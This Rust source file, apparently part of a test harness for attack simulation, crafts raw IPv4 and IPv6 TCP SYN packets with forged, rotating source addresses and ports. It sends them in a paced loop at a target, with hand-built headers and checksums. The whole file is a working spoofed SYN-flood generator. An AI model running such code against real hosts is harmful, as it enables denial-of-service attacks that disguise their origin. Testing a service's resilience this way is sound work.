//! Packets with a forged source address: needs `CAP_NET_RAW`, which containers have by default.

use std::{
    net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr},
    time::Instant,
};

use socket2::{Domain, Protocol, Socket, Type};
use tests::attack::AttackSpec;

use crate::Shared;

/// `IPPROTO_RAW`: we write the IP header ourselves (raw(7), ipv6(7)).
const RAW: i32 = 255;
const TCP: u8 = 6;
const SYN: u8 = 2;
const TCP_BYTES: u16 = 20;

/// Sends SYNs until the attack is over.
pub(crate) fn syns(spec: &AttackSpec, shared: &Shared) {
    let begun = Instant::now();
    let Ok(socket) =
        Socket::new(Domain::for_address(spec.to), Type::RAW, Some(Protocol::from(RAW)))
    else {
        return;
    };
    let target = SocketAddr::new(spec.to.ip(), 0).into();
    let mut number: u32 = 0;
    while shared.pace(begun, spec.per_second) {
        number = number.wrapping_add(1);
        let port = u16::try_from(61_000 + number / 256 % 4_536).unwrap_or(u16::MAX);
        let host = u8::try_from(number % 256).unwrap_or(0);
        let packet = match (spec.forge, spec.to.ip()) {
            (Some(IpAddr::V4(from)), IpAddr::V4(to)) => {
                let [a, b, c, last] = from.octets();
                let from = Ipv4Addr::new(a, b, c, last.wrapping_add(host));
                let segment = segment(v4_sum(from, to), port, spec.to.port(), number);
                [v4_header(from, to), segment].concat()
            }
            (Some(IpAddr::V6(from)), IpAddr::V6(to)) => {
                let segment = segment(v6_sum(from, to), port, spec.to.port(), number);
                [v6_header(from, to), segment].concat()
            }
            _ => return,
        };
        if socket.send_to(&packet, &target).is_ok() {
            Shared::add(&shared.connected);
        } else {
            Shared::add(&shared.ended);
        }
    }
}

/// A TCP header (RFC 9293 §3.1). `addresses` is their part of the checksum.
fn segment(addresses: u32, from: u16, to: u16, sequence: u32) -> Vec<u8> {
    let mut bytes = Vec::with_capacity(usize::from(TCP_BYTES));
    bytes.extend(from.to_be_bytes());
    bytes.extend(to.to_be_bytes());
    bytes.extend(sequence.to_be_bytes());
    bytes.extend([0; 4]); // acknowledges nothing
    bytes.extend([5 << 4, SYN, 0xff, 0xff]); // five words of header, a window
    bytes.extend([0; 4]); // checksum, urgent pointer
    let sum = sum(&bytes) + addresses + u32::from(TCP) + u32::from(TCP_BYTES);
    if let Some(checksum) = bytes.get_mut(16..18) {
        checksum.copy_from_slice(&fold(sum).to_be_bytes());
    }
    bytes
}

/// An IPv4 header (RFC 791 §3.1). The kernel fills in length, checksum and identification.
fn v4_header(from: Ipv4Addr, to: Ipv4Addr) -> Vec<u8> {
    let mut bytes = vec![0x45, 0, 0, 0, 0, 0, 0, 0, 64, TCP, 0, 0];
    bytes.extend(from.octets());
    bytes.extend(to.octets());
    bytes
}

/// An IPv6 header (RFC 8200 §3).
fn v6_header(from: Ipv6Addr, to: Ipv6Addr) -> Vec<u8> {
    let mut bytes = vec![0x60, 0, 0, 0];
    bytes.extend(TCP_BYTES.to_be_bytes());
    bytes.extend([TCP, 64]);
    bytes.extend(from.octets());
    bytes.extend(to.octets());
    bytes
}

fn v4_sum(from: Ipv4Addr, to: Ipv4Addr) -> u32 {
    sum(&from.octets()) + sum(&to.octets())
}

fn v6_sum(from: Ipv6Addr, to: Ipv6Addr) -> u32 {
    sum(&from.octets()) + sum(&to.octets())
}

/// The sum of the internet checksum, not folded yet (RFC 1071).
fn sum(bytes: &[u8]) -> u32 {
    let (words, _) = bytes.as_chunks::<2>();
    words.iter().map(|word| u32::from(u16::from_be_bytes(*word))).sum()
}

fn fold(mut sum: u32) -> u16 {
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !u16::try_from(sum).unwrap_or(0)
}
